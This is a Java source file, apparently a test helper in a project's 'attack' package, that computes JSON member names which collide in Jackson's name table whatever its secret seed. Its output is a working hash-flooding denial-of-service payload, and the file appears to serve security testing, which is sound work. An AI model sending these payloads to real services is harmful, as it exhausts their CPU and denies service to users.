package io.quarkiverse.clerk.attack;

import java.util.StringJoiner;

/**
 * Names of JSON members that fall together in Jackson's table of names. Its hash of two words of four bytes mixes a secret seed
 * in only after both are folded into one word, so that a name for each first word can be computed that collides whatever the
 * seed is.
 */
final class CollidingNames {

    private static final int MULTIPLIER = 33;
    private static final int INVERSE = inverse(MULTIPLIER);
    private static final int TARGET = 0x5eed_c1e4;

    private CollidingNames() {
    }

    /** Members of a JSON object with so many of these names. */
    static String members(int number) {
        StringJoiner members = new StringJoiner(",");
        int found = 0;
        for (int i = 0; found < number; i++) {
            int first = word(i);
            int second = (TARGET - fold(first)) * INVERSE;
            if (isPlainText(second)) {
                members.add('"' + text(first) + text(second) + "\":1");
                found++;
            }
        }
        return members.toString();
    }

    private static int fold(int word) {
        int hash = word + (word >>> 15);
        return hash ^ (hash >>> 9);
    }

    /** Four letters and digits by their number. */
    private static int word(int number) {
        int word = 0;
        for (int i = 0; i < 4; i++) {
            word = word << 8 | "0123456789abcdefghijklmnopqrstuv".charAt(number >>> 5 * i & 31);
        }
        return word;
    }

    private static boolean isPlainText(int word) {
        for (int i = 0; i < 4; i++) {
            int c = word >>> 8 * i & 0xff;
            if (c <= ' ' || c > '~' || c == '"' || c == '\\') {
                return false;
            }
        }
        return true;
    }

    private static String text(int word) {
        return new String(new char[] { (char) (word >>> 24), (char) (word >>> 16 & 0xff), (char) (word >>> 8 & 0xff),
                (char) (word & 0xff) });
    }

    /** Of an odd number modulo 2³², by Newton's iteration. */
    private static int inverse(int odd) {
        int inverse = odd;
        for (int i = 0; i < 5; i++) {
            inverse *= 2 - odd * inverse;
        }
        return inverse;
    }
}
